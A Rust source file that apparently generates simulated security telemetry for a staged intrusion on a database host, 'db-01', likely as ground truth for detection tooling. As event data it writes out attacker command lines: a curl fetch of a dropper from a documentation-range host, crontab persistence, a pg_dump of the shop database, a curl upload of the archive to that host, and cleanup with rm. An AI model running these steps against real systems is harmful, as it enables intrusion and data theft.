//! Day D on db-01: the SSH session, persistence, the dump and its exfiltration.

use super::super::sim::{DB, MS, NODE2, ROOT, Sim};
use super::super::truth::*;
use super::*;
use crate::demo::sim::Side::{Accept, Connect};
use crate::schema::EventKind;
use crate::store::StoreError;

/// 5: db-01: sshd accepts alice's key; crontab persistence; dump and upload.
pub(super) fn db(sim: &mut Sim, day: i64, s: &mut Scene) -> Result<(), StoreError> {
    let (p, ssh, ssh_end) = (P, s.ssh.clone(), s.ssh_end);
    // 5. db-01: sshd accepts alice's key.
    let h = DB;
    let sshd = sim.daemon(h, "sshd");
    sim.tcp(
        Accept,
        h,
        &sshd,
        day + at(14, 9, 2, 140),
        None,
        PAY_IP,
        45_022,
        DB_IP,
        22,
        at(0, 18, 8, 0) - 130 * MS,
        (3_100, 9_800),
    )?;
    let priv_ = sim.fork(h, &sshd, day + at(14, 9, 2, 150), None)?;
    let priv_ = sim.exec(
        h,
        &priv_,
        day + at(14, 9, 2, 152),
        None,
        "/usr/sbin/sshd",
        &["sshd: alice [priv]"],
        ROOT,
        "/",
        None,
    )?;
    let mut notty = (*sim.fork(h, &priv_, day + at(14, 9, 2, 600), None)?).clone();
    notty.uid = Some(ALICE_DB.uid);
    notty.euid = Some(ALICE_DB.uid);
    notty.auid = Some(ALICE_DB.uid);
    notty.user_name = Some("alice".into());
    notty.argv = vec!["sshd: alice@notty".into()];
    let notty = std::sync::Arc::new(notty);
    let bash = sim.spawn(
        h,
        &notty,
        day + at(14, 9, 2, 650) - 400_000,
        None,
        "/bin/bash",
        &["bash", "-s"],
        ALICE_DB,
        "/home/alice",
    )?;
    let home = "/home/alice";
    let c = sim.spawn(
        h,
        &bash,
        day + at(14, 9, 30, 0) - MS,
        None,
        "/usr/bin/curl",
        &[
            "curl",
            "-s",
            "http://203.0.113.66:8000/kw",
            "-o",
            DROPPER_PATH,
        ],
        ALICE_DB,
        home,
    )?;
    sim.net(
        h,
        &c,
        day + at(14, 9, 30, 0),
        None,
        EventKind::NetConnect,
        Some((crate::demo::sim::ip(DB_IP), 39_610)),
        (crate::demo::sim::ip(ATTACKER_IP), 8000),
        None,
    )?;
    sim.written(
        h,
        &c,
        (day + at(14, 9, 30, 400), day + at(14, 9, 30, 900)),
        None,
        DROPPER_PATH,
        Some(DROPPER_SHA256),
    )?;
    sim.net(
        h,
        &c,
        day + at(14, 9, 30, 910),
        None,
        EventKind::NetClose,
        Some((crate::demo::sim::ip(DB_IP), 39_610)),
        (crate::demo::sim::ip(ATTACKER_IP), 8000),
        Some((98, 2_104_552)),
    )?;
    sim.exit(h, &c, day + at(14, 9, 30, 920), None, 0)?;
    let ch = sim.spawn(
        h,
        &bash,
        day + at(14, 9, 35, 0),
        None,
        "/bin/chmod",
        &["chmod", "+x", DROPPER_PATH],
        ALICE_DB,
        home,
    )?;
    sim.change(
        h,
        &ch,
        day + at(14, 9, 35, 5),
        None,
        Chmod(DROPPER_PATH, 0o755),
    )?;
    sim.exit(h, &ch, day + at(14, 9, 35, 8), None, 0)?;
    // Persistence: a crontab line that restarts the implant.
    sim.write_file(h, &bash, day + at(14, 9, 39, 0), None, "/tmp/.c", None)?;
    let ct = sim.spawn(
        h,
        &bash,
        day + at(14, 9, 40, 0),
        None,
        "/usr/bin/crontab",
        &["crontab", "/tmp/.c"],
        ALICE_DB,
        home,
    )?;
    let tmp = "/var/spool/cron/crontabs/tmp.Xk3f9a";
    sim.write_file(h, &ct, day + at(14, 9, 40, 100), None, tmp, None)?;
    sim.change(
        h,
        &ct,
        day + at(14, 9, 40, 200),
        None,
        Rename(tmp, "/var/spool/cron/crontabs/alice"),
    )?;
    sim.exit(h, &ct, day + at(14, 9, 40, 210), None, 0)?;
    // Dump the database and send it out.
    let dump = sim.spawn(
        h,
        &bash,
        day + at(14, 11, 2, 0) - 800_000,
        None,
        "/usr/lib/postgresql/15/bin/pg_dump",
        &[
            "pg_dump",
            "-h",
            "127.0.0.1",
            "-U",
            "shop",
            "shop",
            "-f",
            "/tmp/.d.sql",
        ],
        ALICE_DB,
        home,
    )?;
    let pg = sim.daemon(h, "postgres");
    sim.tcp(
        Connect,
        h,
        &dump,
        day + at(14, 11, 2, 100),
        None,
        "127.0.0.1",
        51_002,
        "127.0.0.1",
        5432,
        at(0, 2, 38, 0),
        (2_200, 311_000_000),
    )?;
    sim.tcp(
        Accept,
        h,
        &pg,
        day + at(14, 11, 2, 101),
        None,
        "127.0.0.1",
        51_002,
        "127.0.0.1",
        5432,
        at(0, 2, 38, 0),
        (311_000_000, 2_200),
    )?;
    let backend = sim.fork(h, &pg, day + at(14, 11, 2, 102), None)?;
    sim.exit(h, &backend, day + at(14, 13, 40, 200), None, 0)?;
    sim.written(
        h,
        &dump,
        (day + at(14, 11, 2, 300), day + at(14, 13, 40, 0)),
        None,
        "/tmp/.d.sql",
        None,
    )?;
    sim.exit(h, &dump, day + at(14, 13, 40, 100), None, 0)?;
    let tar = sim.spawn(
        h,
        &bash,
        day + at(14, 13, 45, 0) - 2 * MS,
        None,
        "/usr/bin/tar",
        &["tar", "czf", "/tmp/.d.tgz", "/tmp/.d.sql"],
        ALICE_DB,
        home,
    )?;
    sim.written(
        h,
        &tar,
        (day + at(14, 13, 45, 0), day + at(14, 14, 12, 0)),
        None,
        "/tmp/.d.tgz",
        None,
    )?;
    sim.exit(h, &tar, day + at(14, 14, 12, 10), None, 0)?;
    let up = sim.spawn(
        h,
        &bash,
        day + at(14, 14, 20, 0),
        None,
        "/usr/bin/curl",
        &["curl", "-s", "-T", "/tmp/.d.tgz", "https://203.0.113.66/u"],
        ALICE_DB,
        home,
    )?;
    let up_end = sim.tcp(
        Connect,
        h,
        &up,
        day + at(14, 14, 20, 10),
        None,
        DB_IP,
        40_188,
        ATTACKER_IP,
        443,
        at(0, 1, 45, 0),
        (48_211_337, 512),
    )?;
    sim.exit(h, &up, up_end + MS, None, 0)?;
    let rm = sim.spawn(
        h,
        &bash,
        day + at(14, 16, 10, 0),
        None,
        "/bin/rm",
        &["rm", "-f", "/tmp/.d.sql", "/tmp/.d.tgz", "/tmp/.c"],
        ALICE_DB,
        home,
    )?;
    for (i, f) in ["/tmp/.d.sql", "/tmp/.d.tgz", "/tmp/.c"].iter().enumerate() {
        sim.change(h, &rm, day + at(14, 16, 10, 3 + i as i64), None, Unlink(f))?;
    }
    sim.exit(h, &rm, day + at(14, 16, 10, 9), None, 0)?;
    sim.exit(h, &bash, day + at(14, 16, 12, 0), None, 0)?;
    sim.exit(h, &notty, day + at(14, 16, 12, 5), None, 0)?;
    sim.exit(h, &priv_, day + at(14, 16, 12, 9), None, 0)?;
    sim.exit(NODE2, &ssh, ssh_end + MS, p, 255)?;

    Ok(())
}
